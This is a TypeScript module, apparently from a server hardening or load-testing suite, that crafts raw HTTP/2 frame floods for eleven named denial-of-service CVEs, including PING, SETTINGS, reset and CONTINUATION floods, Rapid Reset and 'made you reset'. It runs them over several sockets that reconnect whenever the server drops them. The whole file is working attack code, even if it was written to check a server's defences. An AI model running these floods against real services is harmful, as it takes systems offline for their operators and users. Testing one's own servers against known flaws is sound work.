/** Floods of HTTP/2 frames that no client library would send. */
import { setTimeout as sleep } from 'node:timers/promises'
import { endHeaders, endStream, frame, get, post, preface, uint32 } from '../../test/attacks/frames.ts'
import { type Attack, closed, count, type Means, socketOf } from './means.ts'

const streamOf = (i: number): number => 2 * i + 1
const path = '/api/v1/namespaces/attacker/configmaps/mine'
const asked = (i: number): Buffer => frame('headers', endStream | endHeaders, streamOf(i), get(path))
const cancel = 8
const priority = (of: number): Buffer => Buffer.concat([uint32(of), Buffer.of(1)])

interface Flood {
  readonly name: string
  readonly cve: string
  readonly sends: (i: number) => Buffer
}

const floods: readonly Flood[] = [
  { name: 'WINDOW_UPDATE of one byte', cve: 'CVE-2019-9511', sends: () => frame('windowUpdate', 0, 0, uint32(1)) },
  { name: 'PING', cve: 'CVE-2019-9512', sends: () => frame('ping', 0, 0, Buffer.alloc(8)) },
  {
    name: 'PRIORITY',
    cve: 'CVE-2019-9513',
    sends: (i) => frame('priority', 0, streamOf(i % 1000), priority(streamOf((i + 1) % 1000))),
  },
  {
    name: 'requests that are no requests (reset flood)',
    cve: 'CVE-2019-9514',
    sends: (i) => frame('headers', endStream | endHeaders, streamOf(i), Buffer.of(0x82)),
  },
  { name: 'SETTINGS', cve: 'CVE-2019-9515', sends: () => frame('settings', 0, 0) },
  {
    name: 'headers without a name',
    cve: 'CVE-2019-9516',
    sends: (i) =>
      frame('headers', endStream | endHeaders, streamOf(i), Buffer.concat([get(path), Buffer.of(0x40, 0, 0)])),
  },
  { name: 'requests whose answers are not read', cve: 'CVE-2019-9517', sends: asked },
  {
    name: 'empty DATA',
    cve: 'CVE-2019-9518',
    sends: (i) => (i === 0 ? frame('headers', endHeaders, 1, post(path)) : frame('data', 0, 1)),
  },
  {
    name: 'rapid reset',
    cve: 'CVE-2023-44487',
    sends: (i) => Buffer.concat([asked(i), frame('reset', 0, streamOf(i), uint32(cancel))]),
  },
  {
    name: 'CONTINUATION without end',
    cve: 'CVE-2024-27316',
    sends: (i) =>
      i === 0 ? frame('headers', endStream, 1, get(path)) : frame('continuation', 0, 1, Buffer.of(0x40, 1, 97, 1, 98)),
  },
  {
    name: 'made you reset',
    cve: 'CVE-2025-8671',
    sends: (i) => Buffer.concat([asked(i), frame('windowUpdate', 0, streamOf(i), uint32(0))]),
  },
]

const connections = 4
const framesAtOnce = 200
/** A server that reads no more is looked at again. */
const drainMs = 500

/** On a few connections, each made anew when the server has ended it. */
async function flood(means: Means, sends: Flood['sends']): Promise<void> {
  await Promise.all(
    Array.from({ length: connections }, async () => {
      while (!means.signal.aborted) {
        const socket = socketOf(means, ['h2'])
        await Promise.race([new Promise((resolve) => socket.once('secureConnect', resolve)), closed(socket)])
        const readsNothing = sends === asked
        if (readsNothing) socket.pause()
        else socket.on('data', () => {})
        socket.write(Buffer.concat([preface, frame('settings', 0, 0)]))
        for (let i = 0; !socket.destroyed && !means.signal.aborted; ) {
          means.tally.sent += framesAtOnce
          const isTaken = socket.write(Buffer.concat(Array.from({ length: framesAtOnce }, () => sends(i++))))
          if (!isTaken && !socket.destroyed) {
            await Promise.race([
              new Promise((resolve) => socket.once('drain', resolve)),
              closed(socket),
              sleep(drainMs),
            ])
          } else await new Promise((resolve) => setImmediate(resolve))
        }
        count(means.tally, 'cut')
        socket.destroy()
      }
    }),
  )
}

export const byHand: readonly Attack[] = floods.map(({ name, cve, sends }) => ({
  name: `HTTP/2: ${name}, ${cve}`,
  run: (means) => flood(means, sends),
}))
